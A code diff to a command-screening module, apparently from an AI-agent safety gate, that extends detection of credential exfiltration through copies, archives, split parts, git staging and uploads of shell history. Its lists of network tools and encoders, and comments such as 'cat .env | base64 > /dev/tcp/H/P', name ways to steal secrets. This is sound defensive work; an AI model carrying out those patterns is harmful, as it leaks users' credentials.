@@ -20,12 +20,12 @@ from __future__ import annotations
 
 import os
 
-from agentreflex.gate.model import SECRET, UNKNOWN, Cmd, Hit
-from agentreflex.gate.shell.paths import Where, classify, is_secret_file
+from agentreflex.gate.model import SECRET, UNKNOWN, Cmd, Hit, positional
+from agentreflex.gate.shell.paths import Where, classify, is_history_file, is_secret_file
 
 _ENCODERS = frozenset({"base64", "base32", "basenc", "xxd", "od", "hexdump", "uuencode"})
 _CLIPBOARDS = frozenset({"pbcopy", "xclip", "xsel", "wl-copy", "clip", "clip.exe"})
-_NET = frozenset(
+NET = frozenset(
     {
         "curl",
         "wget",
@@ -77,7 +77,7 @@ def sinks_present(cmds: list[Cmd]) -> bool:
     return any(
         c.name in _ENCODERS
         or c.name in _CLIPBOARDS
-        or c.name in _NET
+        or c.name in NET
         or (c.name == "openssl" and c.args[:1] in (["base64"], ["enc"]))
         for c in cmds
     )
@@ -88,14 +88,14 @@ def pipeline_hits(cmds: list[Cmd], where: Where) -> list[Hit]:
     hits: list[Hit] = []
     tainted: dict[str, str] = {}  # files a source wrote in this command -> what they hold
     for cmd in cmds:
-        what = source_of(cmd, where)
+        what = source_of(cmd, where, network=True)
         if what:
             for op, target in cmd.redirects:
                 if op in (">", ">>", ">|", "&>"):
                     tainted[classify(target, where, cmd.cwd)[1]] = what
         socket = to_socket(cmd)
         if socket:  # env > /dev/tcp/H/P, cat .env | base64 > /dev/tcp/H/P
-            sent = what or _piped_source(cmd, where)
+            sent = what or _piped_source(cmd, where, network=True)
             if sent:
                 hits.append(
                     _hit(
@@ -105,10 +105,27 @@ def pipeline_hits(cmds: list[Cmd], where: Where) -> list[Hit]:
                     )
                 )
         if cmd.name in _COPIERS:
-            tainted.update(_copied(cmd, where))
-        if cmd.name in _NET and tainted:
+            tainted.update(_copied(cmd, where, tainted))
+        if cmd.name == "git" and tainted:
+            staged = _staged_copy(cmd, where, tainted)
+            if staged:
+                hits.append(
+                    Hit(
+                        "GATE-SECRET-WRITE",
+                        SECRET,
+                        P_EXFIL,
+                        cmd.text,
+                        f"This stages {staged} into git: once committed it stays in the "
+                        "history, and once pushed everyone who can read the repository has "
+                        "it (it must then be rotated). Keep credentials out of the work "
+                        "tree's tracked files; commit a .example file with placeholders.",
+                    )
+                )
+        if cmd.name in NET:
             sent = _uploads(cmd, where, tainted)
-            if sent:
+            if sent == HISTORY:
+                hits.append(_hit(cmd, _HISTORY_SENT))
+            elif sent:
                 hits.append(
                     _hit(
                         cmd,
@@ -116,8 +133,8 @@ def pipeline_hits(cmds: list[Cmd], where: Where) -> list[Hit]:
                         "the same command. Never send credentials off the machine.",
                     )
                 )
-        if cmd.name in _NET and _reads_stdin(cmd) and not _dumps_env(cmd.stdin_from):
-            source = _piped_source(cmd, where)  # (whole-environment pipes: secrets.py)
+        if cmd.name in NET and reads_stdin(cmd) and not _dumps_env(cmd.stdin_from):
+            source = _piped_source(cmd, where, network=True)  # (environment pipes: secrets.py)
             if source and not (source[:1] == "$" and sent_to_own_service(cmd, source[1:])):
                 hits.append(
                     _hit(
@@ -126,7 +143,7 @@ def pipeline_hits(cmds: list[Cmd], where: Where) -> list[Hit]:
                         "Never send credentials off the machine.",
                     )
                 )
-        if _is_sink(cmd) and cmd.name not in _NET:
+        if _is_sink(cmd) and cmd.name not in NET:
             source = _piped_source(cmd, where)
             if source and not _to_file(cmd):
                 hits.append(
@@ -137,7 +154,7 @@ def pipeline_hits(cmds: list[Cmd], where: Where) -> list[Hit]:
                         "only the one non-secret value you need.",
                     )
                 )
-        if cmd.name in _NET:
+        if cmd.name in NET:
             hits.extend(_network(cmd, cmds, where))
         if cmd.name in _GREPS and _prints_secret_env(cmd):
             hits.append(
@@ -175,6 +192,26 @@ def _prints_secret_env(cmd: Cmd) -> bool:
     return any(secret_named(a) for a in cmd.args if not a.startswith("-"))
 
 
+def _staged_copy(cmd: Cmd, where: Where, tainted: dict[str, str]) -> str:
+    """``git add`` of a file a credential was copied or written into earlier in the same
+    command (``cp .env notes.txt && git add notes.txt``), named or inside a folder added
+    whole (``git add .``, ``-A``): ``""`` when none."""
+    words = [a for a in cmd.args if a[:1] != "-"]
+    if "add" not in words:
+        return ""
+    paths = words[words.index("add") + 1 :]
+    whole = any(a in ("-A", "--all", "-u", "--update") for a in cmd.args) or not paths
+    tops = [where.project.rstrip("/")] if whole else []
+    named = [classify(p, where, cmd.cwd)[1].rstrip("/") for p in paths]
+    tops += named
+    for full, what in tainted.items():
+        if is_secret_file(full) and full not in named:
+            continue  # a copy named like a credential (.env.local): git honours .gitignore
+        if any(full == t or full.startswith(t + "/") for t in tops if t):
+            return f"{os.path.relpath(full, cmd.cwd) if cmd.cwd[:1] == '/' else full}, a copy of {what}"
+    return ""
+
+
 def _uploads(cmd: Cmd, where: Where, tainted: dict[str, str]) -> str:
     """What a tainted file holds when the request sends it (``-F f=@FILE``, ``-d @FILE``,
     ``-T FILE``, ``--upload-file``, ``--post-file=FILE``, ``< FILE``)."""
@@ -194,13 +231,26 @@ def _uploads(cmd: Cmd, where: Where, tainted: dict[str, str]) -> str:
         full = classify(n, where, cmd.cwd)[1]
         if full in tainted:
             return tainted[full]
+        for key, what in tainted.items():  # split's numbered parts: /tmp/part_*
+            if key.endswith("*") and (full.startswith(key[:-1]) or full == key):
+                return what
+        if is_history_file(full):
+            return HISTORY
     return ""
 
 
-_COPIERS = frozenset({"cp", "mv", "install", "ln", "rsync", "tar", "zip", "7z", "gpg", "gpg2"})
+_COPIERS = frozenset(
+    {
+        "cp", "mv", "install", "ln", "rsync", "tar", "zip", "7z", "gpg", "gpg2", "openssl",
+        "split", "dd", "gzip", "bzip2", "xz", "zstd", "lz4", "xxd",
+    }
+)  # fmt: skip
+# compressors that replace FILE with FILE.EXT (unless -c/--stdout writes to stdout)
+_COMPRESSED = {"gzip": ".gz", "bzip2": ".bz2", "xz": ".xz", "zstd": ".zst", "lz4": ".lz4"}
+_FOLDER_ARCHIVERS = frozenset({"tar", "zip", "7z", "cpio"})  # they take a folder whole
 
 
-def _copied(cmd: Cmd, where: Where) -> dict[str, str]:
+def _copied(cmd: Cmd, where: Where, tainted: dict[str, str] | None = None) -> dict[str, str]:
     """Files a copy or an archive of credentials becomes (``cp .env /tmp/x``, ``zip s.zip .env``,
     ``tar czf k.tgz ~/.ssh``, ``gpg -c .env``), as resolved path -> what they hold, so a
     later upload of the copy is judged as an upload of the original."""
@@ -233,14 +283,39 @@ def _copied(cmd: Cmd, where: Where) -> dict[str, str]:
         outs, sources = [ops[0], ops[0] + ".zip"], ops[1:]
     elif name == "7z" and ops[:1] == ["a"] and len(ops) >= 3:
         outs, sources = [ops[1]], ops[2:]
+    elif name == "openssl":  # openssl enc -aes-256-cbc -in .env -out e.bin
+        from agentreflex.gate.rules.secrets import option_values
+
+        sources, outs = option_values(args, ("-in",)), option_values(args, ("-out",))
+    elif name == "split":  # split -b 100 .env /tmp/part_: /tmp/part_aa, ...
+        words = positional(args, ("-a", "-b", "-C", "-l", "-n", "-t"))
+        sources, outs = words[:1], [(words[1] if len(words) > 1 else "x") + "*"]
+    elif name == "dd":
+        sources = [a[3:] for a in args if a.startswith("if=")]
+        outs = [a[3:] for a in args if a.startswith("of=")]
+    elif name in _COMPRESSED and not any(
+        a in ("-c", "--stdout", "-d", "--decompress") for a in args
+    ):
+        sources = ops
+        outs = [o + _COMPRESSED[name] for o in ops]
+    elif name == "xxd" and len(ops) >= 2:
+        sources, outs = ops[:1], ops[1:2]
     elif name in ("gpg", "gpg2") and ops:
         given = [args[i + 1] for i, a in enumerate(args[:-1]) if a in ("-o", "--output")]
         sources = [o for o in ops if o not in given]
         outs = given or [f"{s}{ext}" for s in sources for ext in (".gpg", ".asc")]
     for src in sources:
         full = classify(src, where, cmd.cwd)[1]
-        if is_secret_file(full) or os.path.basename(full.rstrip("/")) in _CRED_DIRS:
+        what = (tainted or {}).get(full, "")  # a copy of a copy: cp .env /tmp/e && gzip /tmp/e
+        if what:
+            pass
+        elif is_secret_file(full) or os.path.basename(full.rstrip("/")) in _CRED_DIRS:
             what = f"{src} (credentials)"
+        elif name in _FOLDER_ARCHIVERS and _holds_home(full, where):
+            what = HOME_HELD
+        elif is_history_file(full):
+            what = HISTORY  # a copy is judged only when it is uploaded
+        if what:
             return {classify(o, where, cmd.cwd)[1]: what for o in outs if o}
     return {}
 
@@ -253,7 +328,7 @@ def _decodes(cmd: Cmd) -> bool:
     )
 
 
-def _reads_stdin(cmd: Cmd) -> bool:
+def reads_stdin(cmd: Cmd) -> bool:
     """Whether a network client sends what is piped into it."""
     if cmd.name in ("nc", "ncat", "netcat", "socat", "http", "https", "xh"):
         return True
@@ -275,28 +350,53 @@ def _dumps_env(cmd: Cmd | None) -> bool:
 def _is_sink(cmd: Cmd) -> bool:
     if cmd.name in _ENCODERS and _decodes(cmd):
         return False  # base64 -d prints plaintext: not a way past redaction
-    if cmd.name in _ENCODERS or cmd.name in _CLIPBOARDS or cmd.name in _NET:
+    if cmd.name in _ENCODERS or cmd.name in _CLIPBOARDS or cmd.name in NET:
         return True
     return cmd.name == "openssl" and cmd.args[:1] in (["base64"], ["enc"])
 
 
-def _piped_source(sink: Cmd, where: Where) -> str:
+def _piped_source(sink: Cmd, where: Where, network: bool = False) -> str:
     src = sink.stdin_from
     for _ in range(16):
         if src is None:
             return ""
-        what = source_of(src, where)
+        what = source_of(src, where, network)
         if what:
             return what
         src = src.stdin_from
     return ""
 
 
-def source_of(cmd: Cmd, where: Where) -> str:
-    """What credential ``cmd`` writes to its stdout (``""`` when none)."""
+HISTORY = "the shell history (where passwords and tokens typed on a command line stay)"
+HOME_HELD = "the home folder (which holds ~/.ssh and ~/.aws)"
+
+
+_HISTORY_SENT = (
+    f"This sends {HISTORY} off the machine: every password, token and connection string "
+    "ever typed on a command line would be readable there. Send only the lines you need, "
+    "with their secrets removed, or ask the user."
+)
+
+
+def _holds_home(full: str, where: Where) -> bool:
+    """The home folder, or a folder above it: an archive of it holds every credential."""
+    top, home = full.rstrip("/") or "/", where.home.rstrip("/")
+    return bool(home) and (top == home or home.startswith(top.rstrip("/") + "/"))
+
+
+def source_of(cmd: Cmd, where: Where, network: bool = False) -> str:
+    """What credential ``cmd`` writes to its stdout (``""`` when none).  With ``network``
+    (the output is sent off the machine) the shell history counts too: reading it is
+    everyday work, sending it is not (https://attack.mitre.org/techniques/T1552/003/)."""
     if cmd.name in _DUMPERS and cmd.args in _DUMP_OPTIONS:
         return "the whole environment (which holds credentials)"
-    from agentreflex.gate.rules.secrets import secret_named
+    if (
+        network
+        and cmd.name in ("history", "fc")
+        and not any(a.startswith("-") and set(a[1:]) & set("cdrwe") for a in cmd.args)
+    ):
+        return HISTORY
+    from agentreflex.gate.rules.secrets import line_loop, secret_named
 
     if cmd.name == "printenv" and any(secret_named(a) for a in cmd.args):
         return f"${next(a for a in cmd.args if secret_named(a))}"
@@ -310,9 +410,13 @@ def source_of(cmd: Cmd, where: Where) -> str:
         full = classify(f, where, cmd.cwd)[1]
         if full.startswith("/proc/") and full.endswith("/environ"):
             return "a process environment"
-        readers = cmd.name in _ARCHIVERS or cmd.name in _ENCODERS
+        readers = cmd.name in _ARCHIVERS or cmd.name in _ENCODERS or line_loop(cmd)
         if readers and (is_secret_file(full) or os.path.basename(full.rstrip("/")) in _CRED_DIRS):
             return f"{f} (credentials)"
+        if cmd.name in _FOLDER_ARCHIVERS and _holds_home(full, where):
+            return HOME_HELD
+        if network and readers and is_history_file(full):
+            return HISTORY
     from agentreflex.gate.rules.secrets import secret_fetcher, secret_printer
 
     return secret_printer(cmd) or secret_fetcher(cmd)
@@ -336,7 +440,7 @@ def _network(cmd: Cmd, cmds: list[Cmd], where: Where) -> list[Hit]:
     if any(UNKNOWN in a for a in body):
         for other in cmds:
             if other.via == "substitution" and other is not cmd:
-                what = source_of(other, where)
+                what = source_of(other, where, network=True)
                 if what:
                     hits.append(
                         _hit(
